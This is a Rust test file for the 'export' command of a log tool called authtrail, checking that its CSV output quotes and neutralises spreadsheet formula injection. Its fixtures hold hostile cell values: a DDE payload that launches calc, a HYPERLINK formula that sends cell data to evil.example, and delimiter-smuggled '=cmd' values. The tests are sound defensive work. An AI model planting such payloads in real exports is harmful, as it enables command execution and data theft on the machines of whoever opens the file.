//! `authtrail export`: CSV rows and NDJSON originals of the events.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures")
        .join(name)
}

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_authtrail"))
        .args(args)
        .output()
        .expect("run authtrail")
}

fn stdout(args: &[&str]) -> String {
    let out = run(args);
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("UTF-8 output")
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A fresh temporary folder for one test.
fn temp(label: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("authtrail-export-{label}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

const HOSTILE: &str = r#"{"geoip":{"country_iso_code":"@SUM(1+1)*cmd|' /C calc'!A0","ip":"198.51.100.30"},"data":{"result":"success","subtype":"user_password","origin":"198.51.100.30","username":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click, here\")"},"event_type":"authentication","id":"h-1","time":1714982400000}
{"geoip":{"country_iso_code":"-2","ip":"198.51.100.31"},"data":{"result":"failure","subtype":"user_password","origin":"198.51.100.31","username":"+1\nsecond line"},"event_type":"authentication","id":"h-2","time":1714982500000}
"#;

#[test]
fn csv_cells_are_quoted_and_neutralised() {
    let dir = temp("csv");
    let file = dir.join("hostile.ndjson");
    std::fs::write(&file, HOSTILE).unwrap();
    let csv = stdout(&["export", "--csv", path(&file)]);
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(csv.starts_with("time,source,kind,outcome,action,user,actor,ip,method,country\r\n"));
    assert!(
        csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click, here\"\")\","),
        "{csv}"
    );
    assert!(
        csv.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"),
        "{csv}"
    );
    assert!(csv.contains(",\"'+1\nsecond line\","), "{csv}");
    assert!(csv.ends_with(",\"'-2\"\r\n"), "{csv}");
    assert!(
        csv.contains("\r\n2024-05-06T08:00:00.000Z,Security Verify,"),
        "{csv}"
    );
}

/// `x;=cmd` was written bare, so a spreadsheet splitting on `;` (comma-decimal locales) read a
/// cell `=cmd` as a formula; a tab or `|` did the same for readers splitting on those.
#[test]
fn csv_cell_with_semicolon_or_tab_is_quoted() {
    let dir = temp("delimiters");
    let file = dir.join("delimiters.ndjson");
    let record = serde_json::json!({
        "geoip": {"country_iso_code": "x|=cmd", "ip": "198.51.100.32"},
        "data": {"result": "success", "subtype": "x\t=cmd", "origin": "198.51.100.32", "username": "x;=cmd"},
        "event_type": "authentication",
        "id": "d-1",
        "time": 1714982400000u64,
    });
    std::fs::write(&file, format!("{record}\n")).unwrap();
    let csv = stdout(&["export", "--csv", path(&file)]);
    std::fs::remove_dir_all(&dir).unwrap();
    let row = csv.split("\r\n").nth(1).expect("one row");
    for cell in ["\"x;=cmd\"", "\"x\t=cmd\"", "\"x|=cmd\""] {
        assert!(
            row.contains(&format!(",{cell},")) || row.ends_with(&format!(",{cell}")),
            "{cell} in {row}"
        );
    }
    // No cell of any delimiter's split starts a formula outside quotes.
    for delimiter in [';', '\t', '|'] {
        let mut quoted = false;
        let mut starts = vec![0];
        for (i, c) in row.char_indices() {
            match c {
                '"' => quoted = !quoted,
                c if (c == delimiter || c == ',') && !quoted => starts.push(i + 1),
                _ => {}
            }
        }
        for s in starts {
            assert!(
                !row[s..].starts_with(['=', '+', '-', '@']),
                "{delimiter:?}: a cell {:?}",
                &row[s..]
            );
        }
    }
}

#[test]
fn csv_has_one_row_per_event_of_the_summary() {
    for name in [
        "stories/story_verify_takeover.ndjson",
        "at_logdna-export_mfa-story.ndjson",
        "at_archive_2019-2020.ndjson.gz",
        "verify_events-api_two-pages.json",
        "broken_mixed.ndjson",
    ] {
        let f = fixture(name);
        let summary: serde_json::Value =
            serde_json::from_str(&stdout(&["summary", "--json", path(&f)])).unwrap();
        let csv = stdout(&["export", "--csv", path(&f)]);
        let rows = csv.split("\r\n").filter(|l| !l.is_empty()).count() - 1;
        assert_eq!(rows as u64, summary["events"].as_u64().unwrap(), "{name}");
    }
}

#[test]
fn csv_keeps_the_time_window() {
    let f = fixture("stories/story_verify_takeover.ndjson");
    let csv = stdout(&[
        "export",
        "--csv",
        "--from",
        "2024-05-07T00:00:00Z",
        "--to",
        "2024-05-07T08:05:00Z",
        path(&f),
    ]);
    let times: Vec<&str> = csv.lines().skip(1).map(|l| &l[..24]).collect();
    assert_eq!(times, ["2024-05-07T08:00:00.000Z"]);
}

#[test]
fn ndjson_lines_are_the_original_records() {
    let f = fixture("stories/story_verify_takeover.ndjson");
    let text = std::fs::read_to_string(&f).unwrap();
    let mut original: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let out = stdout(&["export", "--ndjson", path(&f)]);
    let mut exported: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    // The export is in time order, the fixture need not be.
    let key = |v: &serde_json::Value| v["id"].as_str().unwrap().to_owned();
    original.sort_by_key(key);
    exported.sort_by_key(key);
    assert_eq!(exported, original);
}

#[test]
fn ndjson_reads_gzip_back_like_the_plain_text() {
    let gz = fixture("at_archive_2019-2020.ndjson.gz");
    let mut text = Vec::new();
    flate2::read::MultiGzDecoder::new(std::fs::File::open(&gz).unwrap())
        .read_to_end(&mut text)
        .unwrap();
    let dir = temp("gz");
    let plain = dir.join("at_archive_2019-2020.ndjson");
    std::fs::File::create(&plain)
        .unwrap()
        .write_all(&text)
        .unwrap();
    let from_gz = stdout(&["export", "--ndjson", path(&gz)]);
    let from_plain = stdout(&["export", "--ndjson", path(&plain)]);
    std::fs::remove_dir_all(&dir).unwrap();
    let summary: serde_json::Value =
        serde_json::from_str(&stdout(&["summary", "--json", path(&gz)])).unwrap();
    assert_eq!(
        from_gz.lines().count() as u64,
        summary["events"].as_u64().unwrap()
    );
    assert_eq!(from_gz, from_plain);
    for line in from_gz.lines() {
        serde_json::from_str::<serde_json::Value>(line).unwrap_or_else(|e| panic!("{e}: {line}"));
    }
}

#[test]
fn ndjson_refuses_standard_input() {
    let out = run(&["export", "--ndjson", "-"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("standard input"));
}
